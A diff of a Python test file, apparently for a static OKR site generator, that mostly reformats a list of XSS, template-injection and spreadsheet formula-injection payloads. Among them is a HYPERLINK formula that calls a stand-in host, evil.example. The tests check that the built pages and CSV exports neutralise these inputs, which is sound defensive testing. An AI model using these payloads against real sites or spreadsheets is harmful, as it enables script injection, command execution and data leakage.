@@ -37,25 +37,25 @@ PAYLOADS = [
     "<script>window.__pwned='{tag}';alert('{tag}')</script>",
     "<img src=x onerror=\"window.__pwned='{tag}';alert('{tag}')\" data-pwned=\"{tag}\" id=pwned>",
     "<svg onload=\"alert('{tag}')\" data-pwned=\"{tag}\"><script>alert('{tag}')</script></svg>",
-    "<svg><animate onbegin=\"alert('{tag}')\" attributeName=x dur=1s data-pwned=\"{tag}\"></svg>",
-    "<math><mtext><table><mglyph><style><img src=x onerror=\"alert('{tag}')\" data-pwned=\"{tag}\"></style></mglyph></table></mtext></math>",
-    "<a href=\"javascript:alert('{tag}')\" data-pwned=\"{tag}\">click {tag}</a>",
+    '<svg><animate onbegin="alert(\'{tag}\')" attributeName=x dur=1s data-pwned="{tag}"></svg>',
+    '<math><mtext><table><mglyph><style><img src=x onerror="alert(\'{tag}\')" data-pwned="{tag}"></style></mglyph></table></mtext></math>',
+    '<a href="javascript:alert(\'{tag}\')" data-pwned="{tag}">click {tag}</a>',
     "[md link {tag}](javascript:alert('{tag}')) [b](JaVaScRiPt:alert(1)) [c](java&#x09;script:alert(1)) [d](&#106;avascript:alert(1)) [e](vbscript:msgbox(1)) <a href=\"VBScript:msgbox('{tag}')\" data-pwned=\"{tag}\">vb</a>",
     "[data {tag}](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) ![img](javascript:alert(1)) ![ext](https://evil.example/{tag}.png)",
     "</script><script>alert('{tag}')</script>",
     "</title><script>alert('{tag}')</script><title>",
-    "\"><img src=x onerror=\"alert('{tag}')\" data-pwned=\"{tag}\">",
+    '"><img src=x onerror="alert(\'{tag}\')" data-pwned="{tag}">',
     "' onmouseover='alert(\"{tag}\")' data-pwned='{tag}' x='",
-    "\" autofocus onfocus=\"alert('{tag}')\" data-pwned=\"{tag}\" x=\"",
+    '" autofocus onfocus="alert(\'{tag}\')" data-pwned="{tag}" x="',
     "{{{{ 7*7 }}}} {{{{ 7*'7' }}}} {{% raw %}} ${{7*7}} <%= 7*7 %> #{{7*7}} {tag}",
-    "<iframe src=\"javascript:alert('{tag}')\" data-pwned=\"{tag}\"></iframe><object data=\"javascript:alert(1)\"></object><embed src=x>",
-    "<form action=\"javascript:alert('{tag}')\"><button formaction=\"javascript:alert(1)\" data-pwned=\"{tag}\">go</button></form>",
-    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert('{tag}')\"><base href=\"javascript:alert(1)//\">",
-    "<div style=\"background:url(javascript:alert('{tag}'))\" data-pwned=\"{tag}\">styled</div><style>*{{color:red}}</style>",
-    "<details open ontoggle=\"alert('{tag}')\" data-pwned=\"{tag}\"><summary>x</summary></details>",
+    '<iframe src="javascript:alert(\'{tag}\')" data-pwned="{tag}"></iframe><object data="javascript:alert(1)"></object><embed src=x>',
+    '<form action="javascript:alert(\'{tag}\')"><button formaction="javascript:alert(1)" data-pwned="{tag}">go</button></form>',
+    '<meta http-equiv="refresh" content="0;url=javascript:alert(\'{tag}\')"><base href="javascript:alert(1)//">',
+    '<div style="background:url(javascript:alert(\'{tag}\'))" data-pwned="{tag}">styled</div><style>*{{color:red}}</style>',
+    '<details open ontoggle="alert(\'{tag}\')" data-pwned="{tag}"><summary>x</summary></details>',
     "<noscript><p title=\"</noscript><img src=x onerror=alert('{tag}') data-pwned='{tag}'>\"></noscript>",
     "--><script>alert('{tag}')</script><!-- ]]><script>alert('{tag}')</script>",
-    "=HYPERLINK(\"http://evil.example/?{tag}\",\"x\")",
+    '=HYPERLINK("http://evil.example/?{tag}","x")',
     "@SUM(1+1)*cmd|' /C calc'!A0 {tag}",
     "\u202e{tag} \u2066gnp.exe\u2069 \x07\x1b[31m bell and escape",
 ]
@@ -82,9 +82,17 @@ class Fields:
         return text
 
     def body(self) -> str:
-        parts = [f"# {self('')}", self(""), f"- {self('')}", f"> {self('')}", f"`{self('')}`",
-                 f"| a | b |\n|---|---|\n| {self('').replace('|', ' ')} | x |"]
-        return "\n\n".join(parts) + "\n\n" + "\n\n".join(p.format(tag=f"body{i}") for i, p in enumerate(PAYLOADS)) + "\n"
+        parts = [
+            f"# {self('')}",
+            self(""),
+            f"- {self('')}",
+            f"> {self('')}",
+            f"`{self('')}`",
+            f"| a | b |\n|---|---|\n| {self('').replace('|', ' ')} | x |",
+        ]
+        return (
+            "\n\n".join(parts) + "\n\n" + "\n\n".join(p.format(tag=f"body{i}") for i, p in enumerate(PAYLOADS)) + "\n"
+        )
 
 
 def front(doc: dict, body: str) -> str:
@@ -94,31 +102,80 @@ def front(doc: dict, body: str) -> str:
 def injection_site(root: Path, allow_html: bool) -> Path:
     f = Fields(1000 if allow_html else 0)
     files = {
-        "content/_index.md": front({"title": f(), "vision": f(), "mission": f(),
-                                     "strategy": [{"id": "s1", "title": f(), "description": f()}]}, f.body()),
-        "content/teams/company/_index.md": front({"name": f("Company "), "lead": f(), "members": [f.person(), f.person()], "mission": f(),
-                                                   "kpis": [{"id": "uptime", "name": f(), "unit": f(), "healthy_above": 99}]}, f.body()),
-        "content/teams/t/_index.md": front({"name": f("Team "), "parent": "company", "lead": f(), "members": [f.person()], "mission": f()},
-                                            f.body()),
+        "content/_index.md": front(
+            {"title": f(), "vision": f(), "mission": f(), "strategy": [{"id": "s1", "title": f(), "description": f()}]},
+            f.body(),
+        ),
+        "content/teams/company/_index.md": front(
+            {
+                "name": f("Company "),
+                "lead": f(),
+                "members": [f.person(), f.person()],
+                "mission": f(),
+                "kpis": [{"id": "uptime", "name": f(), "unit": f(), "healthy_above": 99}],
+            },
+            f.body(),
+        ),
+        "content/teams/t/_index.md": front(
+            {"name": f("Team "), "parent": "company", "lead": f(), "members": [f.person()], "mission": f()}, f.body()
+        ),
         "content/teams/t/backlog.md": front({"title": f()}, f.body()),
-        "content/teams/company/2026-Q4/grow.md": front({
-            "title": f(), "owner": f(), "theme": "s1", "tags": [f(), f()],
-            "initiatives": [{"title": f(), "status": "planned", "link": "https://x.example/\"><script>alert('link')</script>"},
-                            {"title": f(), "status": "done", "link": "rel\" onmouseover=\"alert('rel')\" data-pwned=\"rel"}],
-            "key_results": [{"id": "k1", "title": f(), "start": 0, "target": 10, "unit": f(), "owner": f(), "partner": f()},
-                            {"id": "k2", "title": f(), "type": "milestone", "owner": f()}]}, f.body()),
-        "content/teams/t/2026-Q4/o.md": front({
-            "title": f(), "owner": f(), "aligns_to": "company/grow", "depends_on": "company/grow/k2",
-            "key_results": [{"id": "k1", "title": f(), "start": 100, "target": 20, "unit": f(), "contributors": ["company"]},
-                            {"id": "k2", "title": f(), "type": "stay_above", "target": 5, "unit": f()}]}, f.body()),
-        "content/teams/t/2026-Q4/checkins/2026-11-06.md": front({
-            "date": "2026-11-06", "author": f(), "help": [f(), f()],
-            "key_results": {"o/k1": {"value": 80, "note": f(), "confidence": 0.3}, "o/k2": {"value": 6, "note": f()}},
-            "kpis": {}}, f.body()),
-        "content/teams/company/2026-Q4/checkins/2026-11-13.md": front({
-            "date": "2026-11-13", "author": f(), "help": f(),
-            "key_results": {"grow/k1": {"value": 4, "note": f(), "status": "at-risk"}, "grow/k2": {"progress": "50%", "note": f()}},
-            "kpis": {"uptime": 99.5}}, f.body()),
+        "content/teams/company/2026-Q4/grow.md": front(
+            {
+                "title": f(),
+                "owner": f(),
+                "theme": "s1",
+                "tags": [f(), f()],
+                "initiatives": [
+                    {"title": f(), "status": "planned", "link": "https://x.example/\"><script>alert('link')</script>"},
+                    {"title": f(), "status": "done", "link": 'rel" onmouseover="alert(\'rel\')" data-pwned="rel'},
+                ],
+                "key_results": [
+                    {"id": "k1", "title": f(), "start": 0, "target": 10, "unit": f(), "owner": f(), "partner": f()},
+                    {"id": "k2", "title": f(), "type": "milestone", "owner": f()},
+                ],
+            },
+            f.body(),
+        ),
+        "content/teams/t/2026-Q4/o.md": front(
+            {
+                "title": f(),
+                "owner": f(),
+                "aligns_to": "company/grow",
+                "depends_on": "company/grow/k2",
+                "key_results": [
+                    {"id": "k1", "title": f(), "start": 100, "target": 20, "unit": f(), "contributors": ["company"]},
+                    {"id": "k2", "title": f(), "type": "stay_above", "target": 5, "unit": f()},
+                ],
+            },
+            f.body(),
+        ),
+        "content/teams/t/2026-Q4/checkins/2026-11-06.md": front(
+            {
+                "date": "2026-11-06",
+                "author": f(),
+                "help": [f(), f()],
+                "key_results": {
+                    "o/k1": {"value": 80, "note": f(), "confidence": 0.3},
+                    "o/k2": {"value": 6, "note": f()},
+                },
+                "kpis": {},
+            },
+            f.body(),
+        ),
+        "content/teams/company/2026-Q4/checkins/2026-11-13.md": front(
+            {
+                "date": "2026-11-13",
+                "author": f(),
+                "help": f(),
+                "key_results": {
+                    "grow/k1": {"value": 4, "note": f(), "status": "at-risk"},
+                    "grow/k2": {"progress": "50%", "note": f()},
+                },
+                "kpis": {"uptime": 99.5},
+            },
+            f.body(),
+        ),
         "content/teams/t/2026-Q4/retro.md": front({"title": f()}, f.body()),
     }
     for rel, text in files.items():
@@ -138,8 +195,15 @@ def built(tmp_path_factory) -> dict[bool, Path]:
         root = tmp_path_factory.mktemp(f"inject-{'html' if allow_html else 'plain'}")
         config = injection_site(root, allow_html)
         outs[allow_html] = root / "public"
-        procs.append(subprocess.Popen([sys.executable, "-m", "okrsite", "build", "--config", str(config), "--no-cache"],
-                                      cwd=REPO, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True))
+        procs.append(
+            subprocess.Popen(
+                [sys.executable, "-m", "okrsite", "build", "--config", str(config), "--no-cache"],
+                cwd=REPO,
+                stdout=subprocess.PIPE,
+                stderr=subprocess.PIPE,
+                text=True,
+            )
+        )
     for p in procs:
         out, err = p.communicate(timeout=180)
         assert p.returncode == 0, out + err
@@ -232,7 +296,9 @@ def test_raw_files_carry_no_live_payload(built, allow_html):
         for row in csv.reader(io.StringIO(sheet.read_text(encoding="utf-8"), newline="")):
             for cell in row:
                 if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
-                    assert re.fullmatch(r"-?\d+(\.\d+)?", cell), f"{sheet.name}: a cell a spreadsheet would run: {cell!r}"
+                    assert re.fullmatch(r"-?\d+(\.\d+)?", cell), (
+                        f"{sheet.name}: a cell a spreadsheet would run: {cell!r}"
+                    )
                 formulas += TOKEN in cell
     assert formulas  # the payloads are in the sheets, defused
 
